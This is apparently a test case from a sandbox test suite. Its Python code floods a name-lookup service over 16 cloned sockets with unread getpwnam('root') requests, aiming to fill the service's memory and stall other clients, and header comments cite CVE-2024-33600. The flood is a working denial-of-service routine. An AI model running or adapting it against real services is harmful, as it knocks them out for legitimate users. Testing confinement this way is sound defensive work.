# Route: makes requests of a service and reads no answer, on many clones at once, so that its memory fills and others wait
# Known from: CVE-2024-33600 and others; servers that keep answers for clients that never read
# Grants: { descriptors: { 3: !service { pwd: { users: [root] } } } }
# Refused: ECONNRESET, EPIPE, EAGAIN
# Twin: asks for the user by a channel that is read
# Unconfined: cannot run: the descriptor is handed over by us
# Worlds: walls
import socket
import attempt as a

channel = socket.socket(fileno=3)
request = a.requested("getpwnam", name="root")
# A megabyte of requests on each of 16 clones: a service that kept all answers would take them all.
ROUNDS = 16
TIMES = 1 << 20


def flood():
    clones = [a.clone_channel(channel) for _ in range(ROUNDS)]
    for clone in clones:
        clone.setblocking(False)
    full = 0
    for clone in clones:
        sent = 0
        try:
            while sent < TIMES:
                sent += clone.send(request * 64)
        except OSError as error:
            full += 1
            last = error
    # Each of them is held up, or lost.
    if full == len(clones):
        raise last


a.attempt(flood)
a.twin(lambda: a.ask_channel(channel, "getpwnam", name="root")[0].index(b"uid"))
